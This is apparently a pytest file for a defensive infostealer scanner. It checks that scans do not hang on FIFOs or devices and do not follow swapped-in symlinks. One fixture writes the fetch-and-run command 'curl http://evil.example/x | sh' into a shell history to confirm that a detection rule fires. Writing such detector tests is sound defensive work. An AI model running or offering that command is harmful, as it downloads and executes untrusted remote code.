"""Files swapped by another local account, devices and links: a scan never blocks nor follows."""

from __future__ import annotations

import os
import time

import pytest

from clinicguard.host import HostError
from clinicguard.host.local import LocalHost
from clinicguard.infostealer.hashing import Hasher, sha256_file
from clinicguard.infostealer.walk import FileEntry, Root, ScanStats, Walker
from tests.support.hostile_support import fifo, within
from tests.support.infostealer_fixtures import TreeHost, put, rules_hit, scan

pytestmark = pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs are a POSIX feature")


def test_local_read_of_a_fifo_returns_at_once(tmp_path):
    pipe = fifo(tmp_path / "etc" / "os-release")
    host = LocalHost(root=tmp_path)
    with pytest.raises(HostError):
        within(5, lambda: host.read_bytes("/etc/os-release"), pipe)


def test_local_read_of_a_device_is_refused(tmp_path):
    host = LocalHost()
    with pytest.raises(HostError):
        within(5, lambda: host.read_bytes("/dev/zero"))


def test_sqlite_on_a_fifo_returns_at_once(tmp_path):
    pipe = fifo(tmp_path / "home" / "alice" / "cookies.sqlite")
    host = LocalHost(root=tmp_path)
    with pytest.raises(HostError):
        within(5, lambda: host.sqlite_scalar("/home/alice/cookies.sqlite", "SELECT 1"), pipe)


def test_file_swapped_for_a_fifo_before_hashing_is_skipped(tmp_path):
    """The walk saw a regular file; a second account swapped it for a FIFO before it was hashed."""
    real = tmp_path / "tmp" / "payload.exe"
    fifo(real)
    stats = ScanStats()
    entry = FileEntry("/tmp/payload.exe", "payload.exe", Root("/tmp", "tmp", 2), 0, 10, 0.0, True, str(real))
    hasher = Hasher(LocalHost(root=tmp_path), stats, frozenset(), workers=1)
    hasher.submit(entry)
    within(5, hasher.close, real)
    assert stats.special == 1 and stats.hashed == 0


def test_file_swapped_for_a_link_before_hashing_is_not_followed(tmp_path):
    secret = put(tmp_path, "/root/only-root.bin", b"secret")
    link = tmp_path / "tmp" / "payload.exe"
    link.parent.mkdir(parents=True)
    os.symlink(secret, link)
    with pytest.raises(OSError):
        sha256_file(str(link))


def test_fifo_as_bash_history_costs_nothing(tmp_path):
    pipe = fifo(tmp_path / "home" / "alice" / ".bash_history")
    put(tmp_path, "/home/alice/.zsh_history", "curl http://evil.example/x | sh\n")
    t0 = time.monotonic()
    signs = within(10, lambda: scan(TreeHost(tmp_path, "linux"), time_budget=5), pipe)
    assert time.monotonic() - t0 < 5
    assert "shell_curl_pipe" in rules_hit(signs)


def test_desktop_that_is_a_link_to_root_is_not_walked(tmp_path):
    home = tmp_path / "home" / "alice"
    home.mkdir(parents=True)
    os.symlink("/", home / "Desktop")
    stats = ScanStats()
    walker = Walker(TreeHost(tmp_path, "linux"), stats, skip_mounts=frozenset())
    found = list(walker.walk(Root("/home/alice/Desktop", "desktop", 2)))
    assert found == [] and stats.files == 0 and stats.dirs == 0
    assert stats.symlinks == 1
